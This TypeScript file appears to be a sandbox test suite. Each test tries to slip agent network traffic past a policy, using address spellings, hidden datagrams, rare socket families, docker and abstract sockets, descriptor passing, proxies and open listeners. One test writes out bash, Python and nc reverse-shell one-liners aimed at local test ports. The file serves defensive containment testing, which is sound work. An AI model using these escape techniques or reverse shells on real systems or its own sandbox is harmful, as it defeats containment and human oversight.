import { spawnSync } from 'node:child_process'
import { createServer } from 'node:net'
import { constants } from 'node:os'
import type { Attack, Note } from './attack.ts'
import { address, ancillary, AT_FDCWD, inet, inet6, message, sh, syscall, unix, words } from './calls.ts'

const [AF_UNIX, AF_INET, AF_INET6] = [1, 2, 10]
const { EACCES } = constants.errno
const [STREAM, DGRAM, RAW] = [1, 2, 3]
const LOOPBACK6 = '00000000000000000000000000000001'
const MAPPED = '00000000000000000000ffff7f000001'

/** A socket that is connected, and a line over it that tells the judge who was there. */
function call(note: (call: string, value: number) => void, name: string, family: number, to: Buffer, text: string, type = STREAM): void {
  const socket = syscall('socket', family, type, 0)
  const connected = syscall('connect', socket, to, to.length)
  note(`${name}: connect`, connected)
  if (connected >= 0) syscall('write', socket, Buffer.from(text), text.length)
}

/** Ways to talk to who policy does not name. */
export const network: Attack[] = [
  {
    name: 'connects over IPv4 and IPv6 in all spellings',
    group: 'network',
    try(at, note) {
      call(note, '127.0.0.1', AF_INET, inet('127.0.0.1', at.tcp), at.name)
      call(note, '127.0.0.2', AF_INET, inet('127.0.0.2', at.tcp), at.name)
      call(note, '0.0.0.0', AF_INET, inet('0.0.0.0', at.tcp), at.name)
      call(note, '::1', AF_INET6, inet6(LOOPBACK6, at.tcp), at.name)
      call(note, '::', AF_INET6, inet6('0'.repeat(32), at.tcp), at.name)
      call(note, '::ffff:127.0.0.1', AF_INET6, inet6(MAPPED, at.tcp), at.name)
      call(note, '::ffff:0.0.0.0', AF_INET6, inet6('00000000000000000000ffff00000000', at.tcp), at.name)
      call(note, '::127.0.0.1', AF_INET6, inet6('0000000000000000000000007f000001', at.tcp), at.name)
      call(note, 'v4 on v6', AF_INET6, inet('127.0.0.1', at.tcp), at.name)
    },
  },
  {
    name: 'sends datagrams without connecting',
    group: 'network',
    try(at, note) {
      const socket = syscall('socket', AF_INET, DGRAM, 0)
      const data = Buffer.from(at.name)
      const to = inet('127.0.0.1', at.udp)
      note('sendto', syscall('sendto', socket, data, data.length, 0, to, to.length))
      const one = message(data, to)
      note('sendmsg', syscall('sendmsg', socket, one.header, 0))
      const many = Buffer.concat([one.header, words(0)])
      note('sendmmsg', syscall('sendmmsg', socket, many, 1, 0))
      const other = inet('0.0.0.0', at.udp)
      note('sendto 0.0.0.0', syscall('sendto', socket, data, data.length, 0, other, other.length))
    },
  },
  {
    name: 'hides a forbidden datagram among allowed ones',
    group: 'network',
    try(at, note) {
      const socket = syscall('socket', AF_INET, DGRAM, 0)
      const data = Buffer.from(at.name)
      const good = message(data, inet('127.0.0.1', at.allowedTcp))
      const bad = message(data, inet('127.0.0.1', at.udp))
      const messages = Buffer.concat([good.header, words(0), bad.header, words(0), good.header, words(0)])
      note('sendmmsg', syscall('sendmmsg', socket, messages, 3, 0))
    },
  },
  {
    name: 'connects a datagram socket and sends by its connection',
    group: 'network',
    try(at, note) {
      call(note, 'udp', AF_INET, inet('127.0.0.1', at.udp), at.name, DGRAM)
      call(note, 'udp6', AF_INET6, inet6(MAPPED, at.udp), at.name, DGRAM)
      const socket = syscall('socket', AF_INET, DGRAM, 0)
      const good = inet('127.0.0.1', at.allowedTcp)
      note('connect allowed', syscall('connect', socket, good, good.length))
      const { header } = message(Buffer.from(at.name), inet('127.0.0.1', at.udp))
      note('sendmsg elsewhere', syscall('sendmsg', socket, header, 0))
    },
  },
  {
    name: 'opens a TCP connection with its first data',
    group: 'network',
    try(at, note) {
      const MSG_FASTOPEN = 0x20000000
      const data = Buffer.from(at.name)
      const to = inet('127.0.0.1', at.tcp)
      note('sendto', syscall('sendto', syscall('socket', AF_INET, STREAM, 0), data, data.length, MSG_FASTOPEN, to, to.length))
      note('sendmsg', syscall('sendmsg', syscall('socket', AF_INET, STREAM, 0), message(data, to).header, MSG_FASTOPEN))
      note('sendmmsg', syscall('sendmmsg', syscall('socket', AF_INET, STREAM, 0), Buffer.concat([message(data, to).header, words(0)]), 1, MSG_FASTOPEN))
      const later = syscall('socket', AF_INET, STREAM, 0)
      note('TCP_FASTOPEN_CONNECT', syscall('setsockopt', later, 6, 30, Buffer.from([1, 0, 0, 0]), 4))
      note('connect', syscall('connect', later, to, to.length))
      syscall('write', later, data, data.length)
    },
  },
  {
    name: 'uses kinds of sockets that no program of an agent needs',
    group: 'network',
    try(at, note) {
      for (const [name, family, type, protocol] of [
        ['raw', AF_INET, RAW, 255], ['raw icmp', AF_INET, RAW, 1], ['ping', AF_INET, DGRAM, 1], ['ping6', AF_INET6, DGRAM, 58], ['packet', 17, RAW, 0x0300], ['netlink audit', 16, RAW, 9],
        ['vsock', 40, STREAM, 0], ['alg', 38, 5, 0], ['bluetooth', 31, RAW, 1], ['can', 29, RAW, 1], ['sctp', AF_INET, STREAM, 132], ['sctp many', AF_INET, 5, 132], ['mptcp', AF_INET, STREAM, 262],
        ['udplite', AF_INET, DGRAM, 136], ['dccp', AF_INET, 6, 33], ['key', 15, RAW, 2], ['tipc', 30, 4, 0], ['rds', 21, 5, 0], ['xdp', 44, RAW, 0], ['smc', 43, STREAM, 0], ['nfc', 39, 5, 0], ['ax25', 3, DGRAM, 0], ['x25', 9, 5, 0],
      ] as const) {
        const got = syscall('socket', family, type, protocol)
        note(name, got)
        if (got >= 0) note(name, `ESCAPED: a ${name} socket`)
      }
      const got = syscall('socket', 0x1_0000_0002, STREAM, 0)
      if (got >= 0) call(note, 'wide family', AF_INET, inet('127.0.0.1', at.tcp), at.name)
    },
  },
  {
    name: 'leads packets elsewhere with a source route',
    group: 'network',
    uncontained: 'the kernel lets only root do this',
    try(at, note) {
      // RFC 791: loose source route; to the allowed port by way of another host.
      const route = Buffer.from([131, 7, 4, 127, 0, 0, 9, 0])
      const socket = syscall('socket', AF_INET, DGRAM, 0)
      note('IP_OPTIONS', syscall('setsockopt', socket, 0, 4, route, route.length) >= 0 ? 'ESCAPED: a source route is set' : -1)
      const to = inet('127.0.0.1', at.allowedTcp)
      note('IP_RETOPTS', syscall('sendmsg', socket, message(Buffer.from(at.name), to, ancillary(0, 7, route)).header, 0) >= 0 ? 'ESCAPED: a datagram went by a route' : -1)
      const six = syscall('socket', AF_INET6, DGRAM, 0)
      const header = Buffer.from(`00020401${'0'.repeat(8)}${LOOPBACK6.slice(0, 31)}9`, 'hex')
      note('IPV6_RTHDR', syscall('setsockopt', six, 41, 57, header, header.length))
      note('IPV6_2292PKTOPTIONS', syscall('setsockopt', six, 41, 6, ancillary(41, 57, header), 16 + header.length))
    },
  },
  {
    name: 'talks to a service by its socket file, as docker does',
    group: 'network',
    try(at, note) {
      call(note, 'stream', AF_UNIX, unix(at.unix), at.name)
      sh(at, note, 'ln -s "$UNIX" docker.sock; curl -s --max-time 2 --unix-socket docker.sock http://x/containers/json')
      call(note, 'link', AF_UNIX, unix(`${at.scratch}/docker.sock`), at.name)
      const handle = syscall('openat', AT_FDCWD, at.unix, 0o10000000, 0)
      call(note, 'handle', AF_UNIX, unix(`/proc/self/fd/${handle}`), at.name)
    },
  },
  {
    name: 'talks to a service of another program in the temporary folder',
    group: 'network',
    try(at, note) {
      // As tmux, ssh-agent, X11 and editors have them: whoever may write files there does not thereby command those programs.
      call(note, 'stream', AF_UNIX, unix(at.temporaryUnix), at.name)
    },
  },
  {
    name: 'talks to abstract sockets',
    group: 'network',
    try(at, note) {
      call(note, 'stream', AF_UNIX, unix(`\0${at.abstract}`), at.name)
      const socket = syscall('socket', AF_UNIX, DGRAM, 0)
      const to = unix(`\0${at.abstract}`)
      const data = Buffer.from(at.name)
      note('sendto', syscall('sendto', socket, data, data.length, 0, to, to.length))
      note('sendmsg', syscall('sendmsg', socket, message(data, to).header, 0))
      note('bind', syscall('bind', socket, unix(`\0${at.abstract}-own`), unix(`\0${at.abstract}-own`).length))
    },
  },
  {
    name: 'passes descriptors and false credentials',
    group: 'network',
    uncontained: 'only looks for what the supervisor makes of it',
    try(at, note) {
      const pair = Buffer.alloc(8)
      syscall('socketpair', AF_UNIX, DGRAM, 0, pair)
      const [a, b] = [pair.readInt32LE(0), pair.readInt32LE(4)]
      const handle = syscall('openat', AT_FDCWD, at.key, 0o10000000, 0)
      const fd = Buffer.alloc(4)
      fd.writeInt32LE(handle)
      const data = Buffer.from('x')
      note('pass a handle', syscall('sendmsg', a, message(data, undefined, ancillary(1, 1, fd)).header, 0))
      const room = Buffer.alloc(64)
      const { header, kept } = message(Buffer.alloc(8), undefined, room)
      note('receive', syscall('recvmsg', b, header, 0x40))
      const passed = room.readInt32LE(16)
      note('read it', syscall('read', passed, Buffer.alloc(16), 16))
      void kept
      const credentials = Buffer.alloc(12)
      credentials.writeInt32LE(at.supervisor, 0)
      note('false credentials', syscall('sendmsg', a, message(data, undefined, ancillary(1, 2, credentials)).header, 0))
      fd.writeInt32LE(9999)
      note('no such descriptor', syscall('sendmsg', a, message(data, undefined, ancillary(1, 1, fd)).header, 0))
    },
  },
  {
    name: 'offers a shell to the network',
    group: 'network',
    async try(_, note) {
      const server = createServer()
      await new Promise<void>((done) => {
        server.on('error', (error: NodeJS.ErrnoException) => (note('listen', error.errno ?? -1), done())).listen(0, '0.0.0.0', done)
      })
      const bound = server.address() as { address: string } | null
      if (bound) note('reach', bound.address === '0.0.0.0' ? 'ESCAPED: it is open to the network' : -EACCES)
      server.close()
    },
  },
  {
    name: 'listens without a bind',
    group: 'network',
    try(_, note) {
      const socket = syscall('socket', AF_INET, STREAM, 0)
      const listening = syscall('listen', socket, 5)
      note('listen', listening)
      if (listening >= 0) reach(note, socket)
      const six = syscall('socket', AF_INET6, STREAM, 0)
      const listening6 = syscall('listen', six, 5)
      note('listen', listening6)
      if (listening6 >= 0) reach(note, six)
    },
  },
  {
    name: 'listens with what is left of a connection',
    group: 'network',
    try(at, note) {
      const to = inet('127.0.0.1', at.allowedTcp)
      const none = Buffer.alloc(16)
      for (let round = 0; round < 3; round++) {
        const socket = syscall('socket', AF_INET, STREAM, 0)
        note('connect', syscall('connect', socket, to, to.length))
        note('disconnect', syscall('connect', socket, none, 16))
        const listening = syscall('listen', socket, 5)
        note('listen', listening)
        if (listening >= 0) reach(note, socket)
      }
      const refusing = inet('127.0.0.1', at.deadTcp)
      const failed = syscall('socket', AF_INET, STREAM, 0)
      note('connect to nobody', syscall('connect', failed, refusing, 16))
      const listening = syscall('listen', failed, 5)
      note('listen', listening)
      if (listening >= 0) reach(note, failed)
    },
  },
  {
    name: 'starts a reverse shell',
    group: 'network',
    try(at, note) {
      sh(at, note, 'exec 3<>/dev/tcp/127.0.0.1/$TCP && echo "$NAME" >&3; echo "$NAME" > /dev/udp/127.0.0.1/$UDP; sh -i >& /dev/tcp/127.0.0.1/$TCP 0>&1', 'bash')
      note('node', spawnSync(at.node, ['-e', `require('net').connect(${at.tcp}, '127.0.0.1', function () { this.write('shell') }).on('error', (e) => console.log(e.code))`], { timeout: 4000 }).stdout)
      const python = spawnSync('python3', ['-c', `import socket,subprocess,os\ns=socket.create_connection(("127.0.0.1",${at.tcp}))\nos.dup2(s.fileno(),0)\nsubprocess.call(["sh","-i"])`], { timeout: 4000 })
      note('python', python.stderr ?? '')
      sh(at, note, 'curl -s --max-time 2 http://127.0.0.1:$TCP/; wget -qO- -t 1 -T 2 http://127.0.0.1:$TCP/; nc -w 1 127.0.0.1 $TCP < /dev/null')
    },
  },
  {
    name: 'goes by the proxies that the environment names',
    group: 'network',
    uncontained: 'there is no proxy then',
    async try(at, note) {
      const proxies = ['HTTPS_PROXY', 'HTTP_PROXY', 'ALL_PROXY', 'https_proxy', 'http_proxy', 'all_proxy'].flatMap((name) => process.env[name] ?? [])
      note('proxies', proxies.length === 0 ? -2 : proxies.join(' '))
      for (const proxy of new Set(proxies)) {
        const { hostname, port } = new URL(proxy)
        for (const text of [`CONNECT 127.0.0.1:${at.tcp} HTTP/1.1\r\n\r\n${at.name}`, `GET http://127.0.0.1:${at.tcp}/ HTTP/1.1\r\nhost: x\r\n\r\n`, `CONNECT localhost:${at.tcp} HTTP/1.1\r\nhost: a\r\n\r\n`])
          note('proxy', await exchange(hostname, Number(port), text))
        note('socks', await exchange(hostname, Number(port), Buffer.from([5, 1, 0, 5, 1, 0, 1, 127, 0, 0, 1, at.tcp >> 8, at.tcp & 255])))
      }
    },
  },
  {
    name: 'sends what it may not by a call with a vector of parts',
    group: 'network',
    try(at, note) {
      const socket = syscall('socket', AF_INET, DGRAM, 0)
      const to = inet('127.0.0.1', at.udp)
      const part = Buffer.from(at.name)
      const vector = words(address(part), 1, address(part) + 1n, part.length - 1)
      const header = words(address(to), 16, address(vector), 2, 0, 0, 0)
      note('sendmsg', syscall('sendmsg', socket, header, 0))
      note('huge count', syscall('sendmsg', socket, words(address(to), 16, address(vector), 1n << 40n, 0, 0, 0), 0))
      note('huge length', syscall('sendmsg', socket, words(address(to), 16, address(words(address(part), 1n << 60n)), 1, 0, 0, 0), 0))
      note('huge control', syscall('sendmsg', socket, words(address(to), 16, address(vector), 2, address(part), 1n << 40n, 0), 0))
      note('bad pointer', syscall('sendmsg', socket, words(1, 16, 1, 2, 1, 64, 0), 0))
      note('huge sendto', syscall('sendto', socket, part, 1n << 40n, 0, to, 16))
    },
  },
]

/** Where a listening socket can be reached, by the kernel's own word. To be kept to this machine counts as refused. */
function reach(note: Note, socket: number): void {
  const bound = Buffer.alloc(28)
  syscall('getsockname', socket, bound, Buffer.from([28, 0, 0, 0]))
  const isAnywhere = bound.readUInt16LE(0) === AF_INET ? bound.readUInt32BE(4) === 0 : bound.subarray(8, 24).every((byte) => byte === 0)
  note('reach', isAnywhere ? `ESCAPED: port ${bound.readUInt16BE(2)} is open to the network` : -EACCES)
}

function exchange(host: string, port: number, text: string | Buffer): Promise<string> {
  return import('node:net').then(
    ({ connect }) =>
      new Promise((resolve) => {
        const socket = connect(port, host, () => socket.write(text))
        let heard = ''
        const end = (): void => (socket.destroy(), resolve(heard))
        socket.on('data', (chunk: Buffer) => (heard += chunk.toString('latin1'))).on('close', end).on('error', end).setTimeout(1500, end)
      }),
  )
}
